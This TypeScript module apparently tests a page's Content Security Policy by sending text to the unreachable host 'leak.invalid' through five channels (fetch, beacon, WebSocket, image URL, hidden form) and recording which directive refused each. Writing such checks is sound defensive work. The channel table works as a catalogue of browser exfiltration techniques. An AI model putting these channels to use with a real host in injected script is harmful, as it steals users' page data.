/**
 * Tries to send a text out of the page in five ways and says what the browser's policy did with each.
 * The address is one that can never exist, so that a text cannot arrive anywhere even where a policy is missing.
 */
const AWAY = 'leak.invalid';

/** Milliseconds in which a browser reports what its policy has refused. */
const PATIENCE = 1000;

/** Milliseconds in which a second policy, that of a header, reports the same refusal. */
const ECHO = 100;

const pause = (milliseconds: number): Promise<void> =>
  new Promise((resolve) => setTimeout(resolve, milliseconds));

const WAYS: Readonly<Record<string, (text: string) => unknown>> = {
  'a request by script': (text) => fetch(`https://${AWAY}/`, { method: 'POST', body: text, mode: 'no-cors' }),
  'a beacon': (text) => navigator.sendBeacon(`https://${AWAY}/`, text),
  'a socket': (text) => new WebSocket(`wss://${AWAY}/?${encodeURIComponent(text.slice(0, 500))}`),
  'a foreign image': (text) => {
    new Image().src = `https://${AWAY}/?${encodeURIComponent(text.slice(0, 500))}`;
  },
  'a form': (text) => {
    const form = document.createElement('form');
    const field = document.createElement('textarea');
    Object.assign(form, { method: 'post', action: `https://${AWAY}/`, target: '_blank', hidden: true });
    Object.assign(field, { name: 'text', value: text });
    form.append(field);
    document.body.append(form);
    form.submit();
    form.remove();
  },
};

export interface Attempt {
  readonly way: string;
  /** The rule of the policy that refused it; null when no refusal was reported. */
  readonly refusedBy: string | null;
}

/** Waits for the policy's next refusal that names the address. */
const refusal = (): Promise<string | null> =>
  new Promise((resolve) => {
    const heard = (event: SecurityPolicyViolationEvent): void => {
      if (event.disposition === 'enforce') done(event.effectiveDirective);
    };
    const done = (directive: string | null): void => {
      document.removeEventListener('securitypolicyviolation', heard);
      resolve(directive);
    };
    document.addEventListener('securitypolicyviolation', heard);
    setTimeout(done, PATIENCE, null);
  });

/** Tries every way, one after another. Never throws. */
export async function tryToLeak(text: string): Promise<Attempt[]> {
  const attempts: Attempt[] = [];
  for (const [way, send] of Object.entries(WAYS)) {
    const refused = refusal();
    try {
      await Promise.race([send(text), refused]);
    } catch {
      // A refused request throws; the policy's own report says why.
    }
    attempts.push({ way, refusedBy: await refused });
    await pause(ECHO);
  }
  return attempts;
}
